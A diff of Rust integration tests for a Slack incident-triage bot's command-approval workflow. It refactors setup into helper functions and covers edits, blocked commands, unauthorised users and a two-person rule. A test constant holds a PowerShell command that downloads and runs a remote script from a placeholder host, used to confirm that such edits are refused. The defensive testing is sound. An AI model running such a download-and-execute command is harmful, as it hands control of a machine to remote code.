@@ -16,6 +16,20 @@ const BLOCKED: &str =
     "IEX (New-Object Net.WebClient).DownloadString('http://update-check.example/fix.ps1')";
 
 /// Clicks Edit… as `user` and waits for the modal to hold the editor.
+
+/// The demo world with the service started and its approval message posted: the world, the
+/// app, and the incident as it stood then.
+async fn card_posted() -> (
+    World,
+    triage_bot::app::RunningApp,
+    triage_bot::store::IncidentRow,
+) {
+    let world = World::start().await.unwrap();
+    let app = world.start_app().await.unwrap();
+    wait_for_approval_request(&world).await;
+    let before = app.ctx.store.incidents().await.unwrap().remove(0);
+    (world, app, before)
+}
 async fn open_editor(world: &World, app: &triage_bot::app::RunningApp, user: &str) -> String {
     let (status, _) = world.click(app, user, ACTION_EDIT).await.unwrap();
     assert_eq!(status, 200);
@@ -72,10 +86,7 @@ async fn submit(
 
 #[tokio::test]
 async fn edit_then_approve_runs_exactly_the_edited_commands() {
-    let world = World::start().await.unwrap();
-    let app = world.start_app().await.unwrap();
-    wait_for_approval_request(&world).await;
-    let before = app.ctx.store.incidents().await.unwrap().remove(0);
+    let (world, app, before) = card_posted().await;
 
     let view_id = open_editor(&world, &app, HANDLER_ID).await;
     let view = world
@@ -178,10 +189,7 @@ async fn edit_then_approve_runs_exactly_the_edited_commands() {
 
 #[tokio::test]
 async fn a_blocked_edit_is_refused_with_a_field_error_and_nothing_changes() {
-    let world = World::start().await.unwrap();
-    let app = world.start_app().await.unwrap();
-    wait_for_approval_request(&world).await;
-    let before = app.ctx.store.incidents().await.unwrap().remove(0);
+    let (world, app, before) = card_posted().await;
 
     let view_id = open_editor(&world, &app, HANDLER_ID).await;
     let (status, answer) = submit(
@@ -247,10 +255,7 @@ async fn a_blocked_edit_is_refused_with_a_field_error_and_nothing_changes() {
 
 #[tokio::test]
 async fn an_unauthorised_submission_changes_nothing() {
-    let world = World::start().await.unwrap();
-    let app = world.start_app().await.unwrap();
-    wait_for_approval_request(&world).await;
-    let before = app.ctx.store.incidents().await.unwrap().remove(0);
+    let (world, app, before) = card_posted().await;
 
     // Someone who is not an approver cannot get the editor…
     world.click(&app, OTHER_USER, ACTION_EDIT).await.unwrap();
@@ -320,12 +325,7 @@ async fn an_unauthorised_submission_changes_nothing() {
 #[tokio::test]
 async fn a_stale_view_after_someone_else_decided_changes_nothing() {
     let world = World::start().await.unwrap();
-    world.slack.add_user("U0BOB", "bob", "Bob Second", None);
-    let app = world
-        .start_app_with(&[("SLACK_APPROVERS", "U0BOB")])
-        .await
-        .unwrap();
-    wait_for_approval_request(&world).await;
+    let app = with_second_approver(&world, false).await;
     let root = top_level(&world).remove(0);
     let edit_value = triage_bot::demo::button_value(&root.blocks, ACTION_EDIT).unwrap();
 
@@ -381,15 +381,7 @@ async fn a_stale_view_after_someone_else_decided_changes_nothing() {
 #[tokio::test]
 async fn under_the_two_person_rule_an_edit_is_the_first_approval_of_the_edited_list() {
     let world = World::start().await.unwrap();
-    world.slack.add_user("U0BOB", "bob", "Bob Second", None);
-    let app = world
-        .start_app_with(&[
-            ("APPROVAL_TWO_PERSON_REMEDIATION", "true"),
-            ("SLACK_APPROVERS", "U0BOB"),
-        ])
-        .await
-        .unwrap();
-    wait_for_approval_request(&world).await;
+    let app = with_second_approver(&world, true).await;
     let old_value =
         triage_bot::demo::button_value(&top_level(&world)[0].blocks, ACTION_APPROVE).unwrap();
 
@@ -806,10 +798,7 @@ async fn request_changes_from_the_button_revises_that_proposal() {
 
 #[tokio::test]
 async fn a_block_action_from_inside_the_modal_changes_nothing() {
-    let world = World::start().await.unwrap();
-    let app = world.start_app().await.unwrap();
-    wait_for_approval_request(&world).await;
-    let before = app.ctx.store.incidents().await.unwrap().remove(0);
+    let (world, app, before) = card_posted().await;
     let view_id = open_editor(&world, &app, HANDLER_ID).await;
 
     // Unticking a checkbox inside the modal (as Slack would report it with dispatch_action):
